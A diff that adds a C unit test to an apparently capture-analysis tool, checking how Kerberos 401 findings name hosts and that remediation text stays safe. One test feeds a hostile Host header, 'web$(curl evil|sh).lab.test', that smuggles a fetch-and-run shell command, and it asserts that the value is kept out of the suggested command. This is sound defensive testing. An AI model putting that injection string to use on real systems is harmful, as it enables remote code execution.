@@ -281,6 +281,34 @@ START_TEST(t_unans_kdc_unreachable_only_root)
 }
 END_TEST
 
+/* Names from the capture: no Host header (HTTP/1.0) words the finding with
+ * the server's address; a hostile Host never reaches a command of the fix. */
+START_TEST(t_unans_names)
+{
+	struct kf_result *r = fx_new();
+	for (uint64_t fr = 10; fr <= 14; fr += 2)
+		get_401(r, fr, 3, WEB, NULL, 401, "Negotiate", NULL);
+	fx_finish(r);
+	fx_run(r, RULE);
+	const struct kf_finding *f = fx_find(r, RULE);
+	ck_assert_ptr_nonnull(f);
+	ck_assert_msg(contains(f->summary, "10.0.0.20:80 (10.0.0.20) answered"), "%s", f->summary);
+	fx_free(r);
+
+	r = fx_new();
+	for (uint64_t fr = 10; fr <= 14; fr += 2)
+		get_401(r, fr, 3, WEB, "web$(curl evil|sh).lab.test", 401, "Negotiate", NULL);
+	fx_finish(r);
+	fx_run(r, RULE);
+	f = fx_find(r, RULE);
+	ck_assert_ptr_nonnull(f);
+	ck_assert_msg(contains(f->remediation, "`curl --negotiate -u : http://<host>/`"), "%s",
+		      f->remediation);
+	ck_assert(!contains(f->remediation, "http://web$("));
+	fx_free(r);
+}
+END_TEST
+
 /* The catalogue row: a warning of class OUTCOME (a root cause at least as
  * severe takes it), a 60 s window, exactly the two causes docs/rules.md lists. */
 START_TEST(t_unans_rule_info)
@@ -311,6 +339,7 @@ int main(void)
 	tcase_add_test(tc, t_unans_kdc_failure_folds);
 	tcase_add_test(tc, t_unans_kdc_unreachable_only_root);
 	tcase_add_test(tc, t_unans_rule_info);
+	tcase_add_test(tc, t_unans_names);
 	suite_add_tcase(s, tc);
 	return kf_test_run(s);
 }
